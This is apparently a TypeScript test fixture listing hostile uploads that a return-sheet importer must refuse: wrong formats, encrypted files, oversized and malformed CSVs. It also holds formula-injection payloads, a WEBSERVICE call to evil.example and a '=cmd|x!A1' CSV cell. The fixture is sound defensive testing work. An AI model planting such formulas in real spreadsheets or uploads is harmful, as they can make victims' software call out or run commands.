import { RETURN_COLUMNS } from '../../server/domain/return-sheet.ts';
import { HOSTILE_WORKBOOKS, type HostileFile } from './hostile-workbooks.ts';
import {
  BINARY,
  CELLS,
  EMPTY,
  NO_HEADER,
  OLD,
  OPEN_DOCUMENT,
  OTHER,
  PASSWORD,
  ROWS,
  TOO_LARGE,
} from './refusal-sentences.ts';
import { csvFile, HEADER, returnCells } from './return-sheets.ts';
import { rowXml, sheetWith, textXml, workbookFile } from './workbook-files.ts';
import { zipFile } from './zip-files.ts';

const MEGABYTE = 1024 * 1024;

/** A file as Office encrypts it, or as it was before 2007. */
function compound(...names: readonly string[]): Buffer {
  const streams = names.map((name) => Buffer.from(name, 'utf16le'));
  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1016), ...streams, Buffer.alloc(512)]);
}

/** Texts that are one shared text, thirty thousand characters long, in each of thirty thousand cells. */
function oneTextEverywhere(): Buffer {
  const cell = '<c t="s"><v>0</v></c>';
  const rows = Array.from({ length: 1900 }, (_, index) =>
    rowXml(
      index + 2,
      RETURN_COLUMNS.map(() => cell),
    ),
  );
  const header = rowXml(1, RETURN_COLUMNS.map(textXml));
  return workbookFile({
    sheets: { Return: header + rows.join('') },
    strings: `<si><t>${'ha'.repeat(15_000)}</t></si>`,
  });
}

function manyRows(count: number): string {
  const row = Object.values(returnCells({ part: 'x' })).map(textXml);
  return (
    rowXml(1, RETURN_COLUMNS.map(textXml)) + Array.from({ length: count }, (_, at) => rowXml(at + 2, row)).join('')
  );
}

/** Files that must not be read. */
export const HOSTILE: readonly HostileFile[] = [
  ...HOSTILE_WORKBOOKS,
  ['an empty file', () => Buffer.alloc(0), EMPTY],
  ['a file of 5 MB and a byte', () => Buffer.alloc(5 * MEGABYTE + 1, HEADER), TOO_LARGE],
  ['a PDF', () => Buffer.from('%PDF-1.7\n'), OTHER],
  ['a picture', () => Buffer.from('89504e470d0a1a0a0000', 'hex'), OTHER],
  ['a program', () => Buffer.from('MZ\u0090\u0000\u0003\u0000'), OTHER],
  ['a zip of something else', () => zipFile([{ name: 'letter.txt', content: 'Dear all' }]), OTHER],
  [
    'a letter',
    () =>
      workbookFile({ mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml' }),
    OTHER,
  ],
  ['a workbook of Excel 97', () => compound('Workbook'), OLD],
  ['a workbook with a password', () => compound('EncryptionInfo', 'EncryptedPackage'), PASSWORD],
  [
    'a zip with a password',
    () => workbookFile({ more: [{ name: 'xl/secret.xml', content: 'x', flags: 1 }] }),
    PASSWORD,
  ],
  [
    'an OpenDocument file',
    () =>
      Buffer.concat([
        Buffer.from('PK\u0003\u0004'),
        Buffer.alloc(26),
        Buffer.from('mimetypeapplication/vnd.oasis.opendocument.spreadsheet'),
      ]),
    OPEN_DOCUMENT,
  ],
  [
    'a binary workbook',
    () => workbookFile({ mainType: 'application/vnd.ms-excel.sheet.binary.macroEnabled.main' }),
    BINARY,
  ],
  [
    'a formula',
    () =>
      workbookFile({
        sheets: { Return: sheetWith({ value: '<c><f>WEBSERVICE("http://evil.example")</f><v>1</v></c>' }) },
      }),
    'Cell I8 (value) holds a formula.',
  ],
  [
    'a formula in a CSV file',
    () => Buffer.from(csvFile([returnCells({ cause: '=cmd|x!A1' })])),
    'Cell 15 of line 2 (cause) holds a formula.',
  ],

  ['50,000 rows', () => workbookFile({ sheets: { Return: manyRows(50_000) } }), ROWS],
  [
    '50,000 rows in a CSV file',
    () => Buffer.from(`${HEADER}\n${'a,b,c,d,e,f,g,h,1,2,3,4,5,6,7,8\n'.repeat(50_000)}`),
    ROWS,
  ],
  ['one long text in every cell', oneTextEverywhere, CELLS],
  ['a row of 400,000 cells', () => Buffer.from(`${HEADER}\n${'1,'.repeat(200_000)}\n`), CELLS],
  [
    'a quote that never ends',
    () => Buffer.from(`${HEADER}\n"${'x'.repeat(4 * MEGABYTE)}`),
    'Near line 2 a cell starts with a quote and never ends.',
  ],
  ['5 MB of commas', () => Buffer.alloc(5 * MEGABYTE, ','), NO_HEADER],
  ['5 MB of line breaks', () => Buffer.alloc(5 * MEGABYTE, '\n'), NO_HEADER],
];
